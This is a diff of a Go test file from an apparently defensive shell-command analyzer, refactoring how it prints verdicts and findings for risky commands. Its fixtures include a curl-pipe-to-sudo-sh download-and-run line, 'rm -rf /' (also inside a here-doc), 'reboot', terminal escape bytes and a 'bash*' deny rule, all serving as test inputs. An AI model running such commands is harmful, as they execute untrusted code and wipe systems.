@@ -1,9 +1,10 @@
-package cli
+package terminal
 
 import (
 	"strings"
 	"testing"
 
+	"github.com/wardenhq/warden/internal/explain"
 	"github.com/wardenhq/warden/internal/shell"
 )
 
@@ -19,7 +20,7 @@ func finding(class string, tier shell.Tier, cmd, start, end int) shell.Finding {
 	return shell.Finding{Class: class, Tier: tier, Description: c.Description, Command: cmd, Span: shell.Span{Start: start, End: end}}
 }
 
-func TestWriteCheckHuman(t *testing.T) {
+func TestWriteExplanation(t *testing.T) {
 	t.Parallel()
 	pipe := &shell.Analysis{
 		Input:   "cd src && curl -fsSL https://x.test/i.sh | sudo sh",
@@ -70,11 +71,11 @@ func TestWriteCheckHuman(t *testing.T) {
 
 	tests := []struct {
 		name  string
-		res   checkResult
+		res   explain.Explanation
 		color bool
 		want  string
 	}{
-		{"pipe", checkResult{cmd: pipe.Input, analysis: pipe, verdict: "dangerous"}, false, `command: cd src && curl -fsSL https://x.test/i.sh | sudo sh
+		{"pipe", explain.Explanation{Cmd: pipe.Input, Analysis: pipe, Verdict: "dangerous"}, false, `command: cd src && curl -fsSL https://x.test/i.sh | sudo sh
 verdict: dangerous
 
 classes:
@@ -90,8 +91,8 @@ commands:
   2. curl -fsSL https://x.test/i.sh
   3. sh  (via sudo)
 `},
-		{"pipe color", checkResult{cmd: pipe.Input, analysis: pipe, verdict: "dangerous"}, true, ""},
-		{"non-ASCII shown escaped", checkResult{cmd: wide.Input, analysis: wide, verdict: "hardline"}, false, `command: echo \u65e5\u672c && rm -rf /
+		{"pipe color", explain.Explanation{Cmd: pipe.Input, Analysis: pipe, Verdict: "dangerous"}, true, ""},
+		{"non-ASCII shown escaped", explain.Explanation{Cmd: wide.Input, Analysis: wide, Verdict: "hardline"}, false, `command: echo \u65e5\u672c && rm -rf /
 verdict: hardline
 
 classes:
@@ -106,14 +107,14 @@ commands:
   1. echo $'\u65e5\u672c'
   2. rm -rf /
 `},
-		{"control bytes never reach the terminal", checkResult{cmd: hostile.Input + "\x00", analysis: hostile, verdict: "safe"}, false, `command: echo \x1b[2J\u202ehi there
+		{"control bytes never reach the terminal", explain.Explanation{Cmd: hostile.Input + "\x00", Analysis: hostile, Verdict: "safe"}, false, `command: echo \x1b[2J\u202ehi there
 as given: "echo \x1b[2J\u202ehi\tthere\x00"
 verdict: safe
 
 commands:
   1. echo $'\x1b[2J\u202ehi' $(\x07)
 `},
-		{"multi-line span and denied", checkResult{cmd: multi.Input, analysis: multi, verdict: "hardline", denyRule: "bash*"}, false, `command:
+		{"multi-line span and denied", explain.Explanation{Cmd: multi.Input, Analysis: multi, Verdict: "hardline", DenyRule: "bash*"}, false, `command:
   bash <<'EOF'
   rm -rf \
     /
@@ -135,7 +136,7 @@ commands:
   1. bash <<EOF
   2. rm -rf /  (via bash here-doc)
 `},
-		{"long line is windowed", checkResult{cmd: long.Input, analysis: long, verdict: "hardline"}, false, "command: echo " + strings.Repeat("a", 150) + " && reboot && echo " + strings.Repeat("b", 26) + `…
+		{"long line is windowed", explain.Explanation{Cmd: long.Input, Analysis: long, Verdict: "hardline"}, false, "command: echo " + strings.Repeat("a", 150) + " && reboot && echo " + strings.Repeat("b", 26) + `…
 verdict: hardline
 
 classes:
@@ -146,7 +147,7 @@ findings:
     …` + strings.Repeat("a", 26) + " && reboot && echo " + strings.Repeat("b", 75) + `…
                                    ^^^^^^
 `},
-		{"bad spans and unknown classes do not panic", checkResult{cmd: "ls", analysis: bad, verdict: "dangerous"}, false, `command: ls
+		{"bad spans and unknown classes do not panic", explain.Explanation{Cmd: "ls", Analysis: bad, Verdict: "dangerous"}, false, `command: ls
 verdict: dangerous
 
 classes:
@@ -157,7 +158,7 @@ findings:
     ls
     ^^
 `},
-		{"malformed", checkResult{cmd: malformed.Input, analysis: malformed, verdict: "malformed"}, false, `command: echo "x
+		{"malformed", explain.Explanation{Cmd: malformed.Input, Analysis: malformed, Verdict: "malformed"}, false, `command: echo "x
 verdict: malformed
 error: 1:6: reached EOF without closing quote "
 `},
@@ -166,7 +167,7 @@ error: 1:6: reached EOF without closing quote "
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			var b strings.Builder
-			if err := writeCheckHuman(&b, tt.res, tt.color); err != nil {
+			if err := WriteExplanation(&b, tt.res, tt.color); err != nil {
 				t.Fatal(err)
 			}
 			got := b.String()
